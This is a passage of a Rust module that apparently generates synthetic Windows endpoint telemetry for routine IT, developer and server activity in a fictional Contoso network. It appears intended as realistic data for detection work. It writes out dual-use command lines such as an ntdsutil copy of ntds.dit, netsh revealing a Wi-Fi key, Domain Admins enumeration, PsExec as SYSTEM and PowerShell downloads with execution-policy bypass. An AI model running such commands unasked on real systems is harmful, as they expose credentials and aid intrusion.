//! Everyday "interesting" endpoint activity on top of the steady background of
//! `endpoint.rs`: IT administration (command-line diagnostics, remote PowerShell, software
//! deployment, Defender configuration), developers' tool chains, logon scripts, printer
//! drivers, browser downloads and extensions, service and scheduled-task maintenance on the
//! servers, and a one-day red-team exercise (an Atomic-Red-Team style validation run by
//! the security engineer on their workstation, with a lateral-movement test against an
//! application server).
//!
//! Activity is planned per device and UTC day from a stream of its own, independent of the
//! table being generated, so the process, file, registry and image-load rows of one
//! activity agree (same process ids, times, accounts and command lines).

use std::fmt::Write;

use crate::catalog::{DEPT_IT, Img};
use crate::endpoint::{DevTable, Gen};
use crate::host::{
    Acct, Ctx, P, Proc, account, file_of, head, initiating, report_id, version_info,
};
use crate::rng::{Rng, fnv, powershell_encoded};
use crate::sink::Sink;
use crate::world::{DAY, Device, HOUR, MIN, Role, SEC, UserKind, World, weekday};

/// Who runs an activity's processes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Who {
    /// The workstation's user (medium integrity).
    User,
    /// An administrator, elevated: an IT person's `adm-` account on their workstation, an
    /// admin account on a server.
    Admin,
    System,
    /// A service account by name.
    Svc(&'static str),
}

/// Where an activity happens.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Place {
    /// Any workstation with a session that day.
    Ws,
    /// IT workstations (session).
    ItWs,
    /// Engineering workstations (session).
    EngWs,
    /// Any workstation, outside the session too (system activity).
    AnyWs,
    Server,
    Dc,
    FileSrv,
    Sql,
    Web,
    /// Any device.
    Any,
    /// The red-team operator's workstation on the exercise day.
    RedTeam,
    /// The server the red team moves to on the exercise day.
    RedTarget,
}

/// A process an activity starts: its parent is the activity's root (`up == 0`) or an
/// earlier step (`up == k` for step `k`, 1-based).
pub(crate) struct Step {
    pub(crate) up: u8,
    pub(crate) img: Img,
    pub(crate) cmd: &'static str,
}

pub(crate) const fn st(up: u8, img: Img, cmd: &'static str) -> Step {
    Step { up, img, cmd }
}

/// Rows an activity's processes cause besides process creations (`by`: the step, 1-based).
pub(crate) enum Side {
    File {
        by: u8,
        action: &'static str,
        path: &'static str,
        origin: &'static str,
        referrer: &'static str,
        size: i64,
    },
    Reg {
        by: u8,
        action: &'static str,
        key: &'static str,
        name: &'static str,
        vtype: &'static str,
        data: &'static str,
    },
    Load {
        by: u8,
        dll: Img,
    },
}

pub(crate) const fn file(by: u8, action: &'static str, path: &'static str, size: i64) -> Side {
    Side::File {
        by,
        action,
        path,
        origin: "",
        referrer: "",
        size,
    }
}

pub(crate) const fn download(
    by: u8,
    path: &'static str,
    origin: &'static str,
    referrer: &'static str,
    size: i64,
) -> Side {
    Side::File {
        by,
        action: "FileCreated",
        path,
        origin,
        referrer,
        size,
    }
}

pub(crate) const fn reg(
    by: u8,
    key: &'static str,
    name: &'static str,
    vtype: &'static str,
    data: &'static str,
) -> Side {
    Side::Reg {
        by,
        action: "RegistryValueSet",
        key,
        name,
        vtype,
        data,
    }
}

pub(crate) const fn load(by: u8, dll: Img) -> Side {
    Side::Load { by, dll }
}

pub(crate) struct Recipe {
    pub(crate) place: Place,
    pub(crate) root: P,
    pub(crate) who: Who,
    /// Expected occurrences per device and day (per day for `RedTeam`/`RedTarget`).
    pub(crate) rate: f64,
    pub(crate) steps: &'static [Step],
    pub(crate) side: &'static [Side],
    /// Red-team steps: minutes after the operator's session start (the exercise's script).
    pub(crate) at_min: i64,
}

pub(crate) const fn rc(
    place: Place,
    root: P,
    who: Who,
    rate: f64,
    steps: &'static [Step],
    side: &'static [Side],
) -> Recipe {
    Recipe {
        place,
        root,
        who,
        rate,
        steps,
        side,
        at_min: 0,
    }
}

/// A step of the red-team exercise, `at_min` minutes into the operator's session.
pub(crate) const fn red(
    place: Place,
    root: P,
    who: Who,
    at_min: i64,
    steps: &'static [Step],
    side: &'static [Side],
) -> Recipe {
    Recipe {
        place,
        root,
        who,
        rate: 1.0,
        steps,
        side,
        at_min,
    }
}

const HKCU: &str = "HKEY_CURRENT_USER\\{sid}";

/// Template placeholders (expanded by [`expand`]): `{sam}` user, `{adm}` admin account,
/// `{sid}` user SID, `{dc}`/`{fs}`/`{srv}`/`{ws}` host names, `{rt}` the red team's
/// server, `{n}` a small number, `{hex}` 8 hex digits, `{guid}`, `{ts}` epoch seconds,
/// `{frac}` digits, `{pid}` the lsass process id, `{b64}` an encoded command.
const RECIPES: &[Recipe] = &[
    // ---- Every workstation -------------------------------------------------------------
    // Group Policy logon script maps the drives.
    rc(
        Place::Ws,
        P::SvcNetsvcs,
        Who::User,
        0.9,
        &[
            st(0, Img::Gpscript, "gpscript.exe /Logon"),
            st(
                1,
                Img::Wscript,
                "\"C:\\Windows\\System32\\WScript.exe\" \"\\\\contoso.com\\SysVol\\contoso.com\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\User\\Scripts\\Logon\\map-drives.vbs\"",
            ),
            st(
                2,
                Img::Cmd,
                "C:\\Windows\\system32\\cmd.exe /c net use H: \\\\{fs}\\home$\\{sam} /persistent:no",
            ),
            st(
                3,
                Img::Net,
                "net  use H: \\\\{fs}\\home$\\{sam} /persistent:no",
            ),
            st(
                2,
                Img::Rundll32,
                "\"C:\\Windows\\system32\\rundll32.exe\" printui.dll,PrintUIEntry /in /n \\\\{fs}\\Contoso-Floor2-MFP",
            ),
        ],
        &[],
    ),
    // Printing from Office.
    rc(
        Place::Ws,
        P::Word,
        Who::User,
        0.3,
        &[st(0, Img::Splwow64, "C:\\Windows\\splwow64.exe 12288")],
        &[],
    ),
    rc(
        Place::Ws,
        P::Excel,
        Who::User,
        0.3,
        &[st(0, Img::Splwow64, "C:\\Windows\\splwow64.exe 8192")],
        &[],
    ),
    // A new printer's driver lands in the spooler's driver store.
    rc(
        Place::Ws,
        P::Spoolsv,
        Who::System,
        0.04,
        &[],
        &[
            file(
                0,
                "FileCreated",
                "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\KOAXCA_A.DLL",
                1_032_192,
            ),
            file(
                0,
                "FileCreated",
                "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\KOAXCJ_A.DLL",
                602_112,
            ),
            file(
                0,
                "FileCreated",
                "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\KOAXCA__.GPD",
                183_210,
            ),
        ],
    ),
    // SharePoint/WebDAV: the WebClient service sets its cookie through rundll32.
    rc(
        Place::Ws,
        P::SvcLocal,
        Who::User,
        0.25,
        &[st(
            0,
            Img::Rundll32,
            "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie contoso.sharepoint.com@SSL https://contoso.sharepoint.com/sites/{dept}/Shared Documents",
        )],
        &[],
    ),
    // Documents opened straight from SharePoint over WebDAV.
    rc(
        Place::Ws,
        P::Explorer,
        Who::User,
        0.1,
        &[st(
            0,
            Img::Word,
            "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"\\\\contoso.sharepoint.com@SSL\\DavWWWRoot\\sites\\{dept}\\Shared Documents\\{dept} Team Charter.docx\"",
        )],
        &[],
    ),
    // Explorer's Run dialog and recent items; the Teams meeting add-in registers itself.
    rc(
        Place::Ws,
        P::Explorer,
        Who::User,
        0.3,
        &[],
        &[reg(
            0,
            "{hkcu}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU",
            "a",
            "String",
            "\\\\{fs}\\{share}\\1",
        )],
    ),
    rc(
        Place::Ws,
        P::Teams,
        Who::User,
        0.15,
        &[],
        &[
            reg(
                0,
                "{hkcu}\\SOFTWARE\\Classes\\CLSID\\{19A6E644-14E6-4A60-B8D7-DD20610A871D}\\InprocServer32",
                "",
                "String",
                "C:\\Users\\{sam}\\AppData\\Local\\Microsoft\\TeamsMeetingAdd-in\\1.24.27902\\x64\\Microsoft.Teams.AddinLoader.dll",
            ),
            reg(
                0,
                "{hkcu}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "com.squirrel.Teams.Teams",
                "String",
                "C:\\Users\\{sam}\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\" --process-start-args \"--system-initiated\"",
            ),
        ],
    ),
    // Teams calls open the camera.
    rc(
        Place::Ws,
        P::Teams,
        Who::User,
        0.5,
        &[],
        &[load(0, Img::Ksproxy)],
    ),
    // OneDrive keeps its Run key.
    rc(
        Place::Ws,
        P::OneDrive,
        Who::User,
        0.2,
        &[],
        &[reg(
            0,
            "{hkcu}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "OneDrive",
            "String",
            "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background",
        )],
    ),
    // Browser downloads: installers, a browser extension.
    rc(
        Place::Ws,
        P::Chrome,
        Who::User,
        0.08,
        &[],
        &[download(
            0,
            "C:\\Users\\{sam}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Webstore Downloads\\ghbmnnjooekpmoecnnnilnnbdlolhkhi_1_83_0_0.crx",
            "https://clients2.googleusercontent.com/crx/blobs/AV8Xwo6_docs-offline/GHBMNNJOOEKPMOECNNNILNNBDLOLHKHI_1_83_0_0.crx",
            "https://chromewebstore.google.com/",
            1_548_288,
        )],
    ),
    rc(
        Place::Ws,
        P::Edge,
        Who::User,
        0.04,
        &[st(
            0,
            Img::ZoomInstaller,
            "\"C:\\Users\\{sam}\\Downloads\\ZoomInstallerFull.exe\" ",
        )],
        &[
            download(
                0,
                "C:\\Users\\{sam}\\Downloads\\ZoomInstallerFull.exe",
                "https://zoom.us/client/6.2.11.52513/ZoomInstallerFull.exe?archType=x64",
                "https://zoom.us/download",
                88_517_336,
            ),
            reg(
                1,
                "{hkcu}\\SOFTWARE\\Classes\\zoommtg\\shell\\open\\command",
                "(Default)",
                "String",
                "\"C:\\Users\\{sam}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe\" \"--url=%1\"",
            ),
        ],
    ),
    // Defender and Group Policy on every machine.
    rc(
        Place::AnyWs,
        P::SvcNetsvcs,
        Who::System,
        0.6,
        &[],
        &[
            reg(
                0,
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Spynet",
                "SubmitSamplesConsent",
                "Dword",
                "1",
            ),
            reg(
                0,
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection",
                "DisableScriptScanning",
                "Dword",
                "0",
            ),
        ],
    ),
    rc(
        Place::Any,
        P::SvcSchedule,
        Who::System,
        0.5,
        &[st(0, Img::Gpupdate, "gpupdate.exe /target:computer")],
        &[],
    ),
    // Intune remediation scripts.
    rc(
        Place::AnyWs,
        P::IntuneExt,
        Who::System,
        0.8,
        &[
            st(
                0,
                Img::IntuneAgent,
                "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe\" -powershell \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\3f2b1c9e-5a7d-4e21-9b0c-6d8e4f1a2b3c_1.ps1\"",
            ),
            st(
                1,
                Img::PowerShell,
                "\"C:\\Windows\\SysNative\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -executionPolicy bypass -file  \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\3f2b1c9e-5a7d-4e21-9b0c-6d8e4f1a2b3c_1.ps1\" ",
            ),
            st(
                2,
                Img::Reg,
                "\"C:\\Windows\\system32\\reg.exe\" query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s /f DisplayName",
            ),
        ],
        &[],
    ),
    // Dell Command Update pulls its catalog with BITS.
    rc(
        Place::AnyWs,
        P::SvcSchedule,
        Who::System,
        0.15,
        &[
            st(
                0,
                Img::Cmd,
                "C:\\Windows\\system32\\cmd.exe /c \"C:\\ProgramData\\Contoso\\Scripts\\vendor-catalog.cmd\"",
            ),
            st(
                1,
                Img::Bitsadmin,
                "bitsadmin.exe /transfer DellCatalog /download /priority normal https://downloads.dell.com/catalog/CatalogIndexPC.cab C:\\ProgramData\\Contoso\\Catalog\\CatalogIndexPC.cab",
            ),
        ],
        &[file(
            2,
            "FileCreated",
            "C:\\ProgramData\\Contoso\\Catalog\\CatalogIndexPC.cab",
            612_352,
        )],
    ),
    // ---- Engineering -------------------------------------------------------------------
    rc(
        Place::EngWs,
        P::Code,
        Who::User,
        2.0,
        &[
            st(
                0,
                Img::PowerShell,
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoLogo",
            ),
            st(
                1,
                Img::Dotnet,
                "\"C:\\Program Files\\dotnet\\dotnet.exe\" build C:\\Users\\{sam}\\source\\repos\\contoso-api\\Contoso.Api.sln",
            ),
            st(
                2,
                Img::MsBuild,
                "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe\" C:\\Users\\{sam}\\source\\repos\\contoso-api\\Contoso.Api.csproj /nologo /m /p:Configuration=Debug",
            ),
            st(
                3,
                Img::Csc,
                "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /nowarn:1701,1702 /fullpaths /debug+ /out:obj\\Debug\\Contoso.Api.dll @\"C:\\Users\\{sam}\\AppData\\Local\\Temp\\tmp{hex}.rsp\"",
            ),
        ],
        &[file(
            1,
            "FileModified",
            "C:\\Users\\{sam}\\source\\repos\\contoso-api\\.vscode\\tasks.json",
            1_214,
        )],
    ),
    rc(
        Place::EngWs,
        P::Code,
        Who::User,
        1.5,
        &[
            st(
                0,
                Img::Git,
                "git commit -m \"Fix pagination in orders endpoint\"",
            ),
            st(0, Img::Git, "git push origin feature/orders-{n}"),
        ],
        &[],
    ),
    rc(
        Place::EngWs,
        P::Code,
        Who::User,
        0.1,
        &[st(
            0,
            Img::Git,
            "git config --local user.email {sam}@contoso.com",
        )],
        &[],
    ),
    rc(
        Place::EngWs,
        P::Explorer,
        Who::User,
        0.6,
        &[
            st(0, Img::Wsl, "\"C:\\Windows\\System32\\wsl.exe\" -d Ubuntu"),
            st(
                0,
                Img::Ssh,
                "\"C:\\Windows\\System32\\OpenSSH\\ssh.exe\" -L 5433:{sqlsrv}:1433 -p 22 {sam}@{jump}",
            ),
            st(
                0,
                Img::Python,
                "\"C:\\Program Files\\Python312\\python.exe\" -m pytest tests",
            ),
        ],
        &[],
    ),
    rc(
        Place::EngWs,
        P::Explorer,
        Who::User,
        0.15,
        &[
            st(
                0,
                Img::Pwsh,
                "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
            ),
            st(
                1,
                Img::Winget,
                "\"C:\\Program Files\\WindowsApps\\Microsoft.DesktopAppInstaller_1.24.25200.0_x64__8wekyb3d8bbwe\\winget.exe\" upgrade --all --silent",
            ),
        ],
        &[],
    ),
    // ---- IT workstations (as the adm- account) --------------------------------------------
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        2.5,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(1, Img::Ipconfig, "ipconfig  /all"),
            st(1, Img::Ping, "ping  -n 4 {srv}"),
            st(1, Img::Nslookup, "nslookup  {srv}.contoso.com"),
            st(1, Img::Whoami, "whoami  /all"),
            st(1, Img::Net, "net  user {peer} /domain"),
            st(
                6,
                Img::Net1,
                "C:\\Windows\\system32\\net1  user {peer} /domain",
            ),
            st(1, Img::Nltest, "nltest  /dsgetdc:contoso.com"),
            st(1, Img::Gpresult, "gpresult  /r /scope:computer"),
            st(1, Img::Quser, "quser  /server:{srv}"),
        ],
        &[load(3, Img::Iphlpapi)],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        1.0,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(1, Img::Netstat, "netstat  -ano"),
            st(1, Img::Arp, "arp  -a"),
            st(1, Img::Systeminfo, "systeminfo "),
            st(1, Img::Tasklist, "tasklist  /v"),
            st(1, Img::Klist, "klist "),
            st(1, Img::Sc, "sc  query type= service state= all"),
            st(1, Img::Schtasks, "schtasks  /query /fo LIST /v"),
            st(
                1,
                Img::Certutil,
                "certutil  -hashfile C:\\Users\\{sam}\\Downloads\\npp.8.7.1.Installer.x64.exe SHA256",
            ),
            st(1, Img::Net, "net  group \"Domain Admins\" /domain"),
            st(
                10,
                Img::Net1,
                "C:\\Windows\\system32\\net1  group \"Domain Admins\" /domain",
            ),
            st(1, Img::Net, "net  localgroup administrators"),
            st(1, Img::Nltest, "nltest  /dclist:contoso.com"),
        ],
        &[load(7, Img::Mswsock)],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.8,
        &[
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ",
            ),
            st(
                1,
                Img::Cscript,
                "\"C:\\Windows\\system32\\cscript.exe\" //nologo C:\\Windows\\System32\\slmgr.vbs /dlv",
            ),
            st(
                1,
                Img::Wmic,
                "\"C:\\Windows\\System32\\Wbem\\WMIC.exe\" /node:{peerws} os get lastbootuptime",
            ),
            st(
                1,
                Img::Wmic,
                "\"C:\\Windows\\System32\\Wbem\\WMIC.exe\" qfe list brief",
            ),
            st(
                1,
                Img::Netsh,
                "netsh  wlan show profile name=\"Contoso-Guest\" key=clear",
            ),
            st(
                1,
                Img::Wevtutil,
                "\"C:\\Windows\\system32\\wevtutil.exe\" qe System /c:20 /rd:true /f:text",
            ),
            st(
                1,
                Img::Mmc,
                "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\" ",
            ),
        ],
        &[load(7, Img::Mswsock)],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.6,
        &[st(
            0,
            Img::PowerShell,
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"Get-ADComputer -Filter * -Properties OperatingSystem,LastLogonDate | Where-Object { $_.LastLogonDate -lt (Get-Date).AddDays(-30) } | Select-Object Name,OperatingSystem,LastLogonDate\"",
        )],
        &[],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.5,
        &[st(
            0,
            Img::PowerShell,
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"Invoke-Command -ComputerName {srv} -ScriptBlock { Get-CimInstance -ClassName Win32_LogicalDisk | Select-Object DeviceID,FreeSpace }\"",
        )],
        &[],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.3,
        &[st(
            0,
            Img::PowerShell,
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ExecutionPolicy Bypass -NoProfile -Command \"Invoke-WebRequest -Uri https://download.sysinternals.com/files/SysinternalsSuite.zip -OutFile C:\\Users\\{sam}\\Downloads\\SysinternalsSuite.zip\"",
        )],
        &[file(
            1,
            "FileCreated",
            "C:\\Users\\{sam}\\Downloads\\SysinternalsSuite.zip",
            53_218_304,
        )],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.3,
        &[st(
            0,
            Img::PowerShell,
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"Get-MpComputerStatus | Select-Object AMProductVersion,AntivirusSignatureVersion,RealTimeProtectionEnabled; Get-MpPreference | Select-Object -ExpandProperty ExclusionPath\"",
        )],
        &[],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.2,
        &[st(
            0,
            Img::PowerShell,
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"(New-Object Net.WebClient).DownloadFile('https://aka.ms/vs/17/release/vc_redist.x64.exe', 'C:\\Temp\\vc_redist.x64.exe')\"",
        )],
        &[file(
            1,
            "FileCreated",
            "C:\\Temp\\vc_redist.x64.exe",
            25_641_968,
        )],
    ),
    // Software deployment from the share and the vendor.
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.25,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(
                1,
                Img::Msiexec,
                "msiexec  /i https://dl.google.com/edgedl/chrome/install/GoogleChromeStandaloneEnterprise64.msi /qn /norestart",
            ),
            st(
                1,
                Img::Msiexec,
                "msiexec  /i \"\\\\{fs}\\Software$\\7-Zip\\7z2408-x64.msi\" /qn",
            ),
            st(
                1,
                Img::Msiexec,
                "msiexec  /fa C:\\Windows\\Installer\\3f1b2c.msi /qn",
            ),
            st(
                1,
                Img::Regsvr32,
                "regsvr32  /s \"C:\\Program Files\\Contoso\\LOB\\ContosoShellExt.dll\"",
            ),
        ],
        &[],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.1,
        &[st(
            0,
            Img::PsExec,
            "PsExec.exe  \\\\{peerws} -accepteula -s cmd /c \"gpupdate /force\"",
        )],
        &[],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.25,
        &[],
        &[file(
            0,
            "FileCreated",
            "C:\\Users\\{sam}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\SW_DVD9_Win_Server_STD_CORE_2022_64Bit_English.iso.lnk",
            1_071,
        )],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::User,
        0.4,
        &[],
        &[reg(
            0,
            "{hkcu}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU",
            "b",
            "String",
            "powershell\\1",
        )],
    ),
    // ---- Servers ------------------------------------------------------------------------
    // Remote PowerShell sessions from the IT staff.
    rc(
        Place::Server,
        P::SvcDcom,
        Who::Admin,
        0.7,
        &[
            st(
                0,
                Img::Wsmprovhost,
                "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
            ),
            st(
                1,
                Img::Ipconfig,
                "\"C:\\Windows\\system32\\ipconfig.exe\" /all",
            ),
            st(1, Img::Hostname, "\"C:\\Windows\\system32\\HOSTNAME.EXE\""),
            st(
                1,
                Img::Netstat,
                "\"C:\\Windows\\system32\\NETSTAT.EXE\" -ano",
            ),
        ],
        &[load(1, Img::SmaNi), load(1, Img::Amsi)],
    ),
    rc(
        Place::Server,
        P::SvcSchedule,
        Who::System,
        0.9,
        &[
            st(
                0,
                Img::Cmd,
                "C:\\Windows\\system32\\cmd.exe /c \"C:\\ProgramData\\Contoso\\Scripts\\log-cleanup.cmd\"",
            ),
            st(
                1,
                Img::Forfiles,
                "forfiles.exe  /p \"C:\\ProgramData\\Contoso\\Logs\" /s /m *.log /d -30 /c \"cmd /c del @path\"",
            ),
        ],
        &[],
    ),
    rc(
        Place::Sql,
        P::Services,
        Who::Svc("svc-sql"),
        0.8,
        &[
            st(
                0,
                Img::SqlAgent,
                "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE\" -i MSSQLSERVER",
            ),
            st(
                1,
                Img::Cmd,
                "C:\\Windows\\system32\\cmd.exe /c forfiles.exe /p \"D:\\SQLBackup\" /s /m *.bak /d -14 /c \"cmd /c del @path\"",
            ),
            st(
                2,
                Img::Forfiles,
                "forfiles.exe  /p \"D:\\SQLBackup\" /s /m *.bak /d -14 /c \"cmd /c del @path\"",
            ),
        ],
        &[],
    ),
    // ASP.NET compiles pages on the web servers.
    rc(
        Place::Web,
        P::W3wp,
        Who::Svc("svc-web"),
        2.0,
        &[
            st(
                0,
                Img::Csc,
                "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\3f2a91c4\\7b1e6d20\\{hex}.cmdline\"",
            ),
            st(
                1,
                Img::Cvtres,
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 \"/OUT:C:\\Windows\\TEMP\\RES{hex}.tmp\" \"c:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\3f2a91c4\\7b1e6d20\\CSC{hex}.TMP\"",
            ),
        ],
        &[file(
            1,
            "FileCreated",
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\3f2a91c4\\7b1e6d20\\App_Web_{hex}.dll",
            24_576,
        )],
    ),
    // Shadow Copies of Shared Folders, twice a day.
    rc(
        Place::FileSrv,
        P::SvcSchedule,
        Who::System,
        2.0,
        &[st(
            0,
            Img::Vssadmin,
            "C:\\Windows\\system32\\vssadmin.exe Create Shadow /AutoRetry=15 /For=\\\\?\\Volume{4c1b2a3d-9e8f-4a7b-b6c5-d4e3f2a1b0c9}\\",
        )],
        &[],
    ),
    rc(
        Place::FileSrv,
        P::SvcSchedule,
        Who::Svc("svc-backup"),
        0.9,
        &[st(
            0,
            Img::Robocopy,
            "robocopy.exe  D:\\Shares \\\\{backupsrv}\\Backup$\\Shares /MIR /R:1 /W:1 /NP /LOG:C:\\ProgramData\\Contoso\\Logs\\robocopy.log",
        )],
        &[],
    ),
    // Domain controller: replication checks and the weekly IFM snapshot for backups.
    rc(
        Place::Dc,
        P::SvcSchedule,
        Who::System,
        1.0,
        &[
            st(
                0,
                Img::Cmd,
                "C:\\Windows\\system32\\cmd.exe /c \"C:\\ProgramData\\Contoso\\Scripts\\ad-health.cmd\"",
            ),
            st(1, Img::Repadmin, "repadmin  /replsummary"),
        ],
        &[],
    ),
    rc(
        Place::Dc,
        P::SvcSchedule,
        Who::Svc("svc-backup"),
        0.3,
        &[st(
            0,
            Img::Ntdsutil,
            "ntdsutil.exe  \"ac i ntds\" \"ifm\" \"create full D:\\Backup\\IFM\" q q",
        )],
        &[file(
            1,
            "FileCreated",
            "D:\\Backup\\IFM\\Active Directory\\ntds.dit",
            50_348_032,
        )],
    ),
    // An administrator enables Remote Desktop on a rebuilt server.
    rc(
        Place::Server,
        P::SvcDcom,
        Who::Admin,
        0.04,
        &[
            st(
                0,
                Img::Wsmprovhost,
                "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
            ),
            st(
                1,
                Img::Reg,
                "\"C:\\Windows\\system32\\reg.exe\" add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
            ),
            st(
                1,
                Img::Netsh,
                "\"C:\\Windows\\system32\\netsh.exe\" advfirewall firewall set rule group=\"remote desktop\" new enable=Yes",
            ),
        ],
        &[reg(
            2,
            "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\Terminal Server",
            "fDenyTSConnections",
            "Dword",
            "0",
        )],
    ),
    // Scheduled maintenance scripts of the IT team.
    rc(
        Place::Server,
        P::SvcSchedule,
        Who::System,
        1.0,
        &[st(
            0,
            Img::PowerShell,
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass -File \"C:\\ProgramData\\Contoso\\Scripts\\Check-DefenderHealth.ps1\"",
        )],
        &[],
    ),
    rc(
        Place::AnyWs,
        P::SvcSchedule,
        Who::System,
        0.3,
        &[st(
            0,
            Img::PowerShell,
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -NonInteractive -Command \"Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'CONTOSO\\Helpdesk' -ErrorAction SilentlyContinue\"",
        )],
        &[],
    ),
    // Remote support: the helpdesk's ScreenConnect, DameWare on IT machines, and the
    // AnyDesk some people installed themselves.
    rc(
        Place::Ws,
        P::Services,
        Who::System,
        0.06,
        &[
            st(
                0,
                Img::ScreenConnectSvc,
                "\"C:\\Program Files (x86)\\ScreenConnect Client (5b8c2a9e3f1d4c07)\\ScreenConnect.ClientService.exe\" \"?e=Support&y=Guest&h=support.contoso.com&p=8041&s=6f1c2d3e-4a5b-4c6d-8e7f-{hex}&k=BgIAAACkAABSU0ExAAgAAAEAAQ&t=&c=Contoso\"",
            ),
            st(
                1,
                Img::ScreenConnectClient,
                "\"C:\\Program Files (x86)\\ScreenConnect Client (5b8c2a9e3f1d4c07)\\ScreenConnect.WindowsClient.exe\" \"RunRole\" \"{guid}\" \"Type=Support\"",
            ),
            st(
                1,
                Img::Cmd,
                "C:\\Windows\\system32\\cmd.exe /c \"C:\\Windows\\TEMP\\ScreenConnect\\24.3.7.9067\\{hex}run.cmd\"",
            ),
            st(3, Img::Ipconfig, "ipconfig  /flushdns"),
            st(3, Img::Gpupdate, "gpupdate  /force"),
        ],
        &[],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.4,
        &[st(
            0,
            Img::Dwrcc,
            "\"C:\\Program Files\\SolarWinds\\DameWare Mini Remote Control x64\\DWRCC.exe\" -c: -h: -m:{peerws} -a:1",
        )],
        &[],
    ),
    rc(
        Place::Ws,
        P::Explorer,
        Who::User,
        0.02,
        &[st(
            0,
            Img::AnyDesk,
            "\"C:\\Users\\{sam}\\Downloads\\AnyDesk.exe\" ",
        )],
        &[download(
            0,
            "C:\\Users\\{sam}\\Downloads\\AnyDesk.exe",
            "https://download.anydesk.com/AnyDesk.exe",
            "https://anydesk.com/en/downloads/windows",
            5_219_048,
        )],
    ),
    rc(
        Place::ItWs,
        P::Explorer,
        Who::Admin,
        0.1,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(
                1,
                Img::Pktmon,
                "PktMon.exe  start --capture --comp nics --pkt-size 0 --file-name C:\\Temp\\capture.etl",
            ),
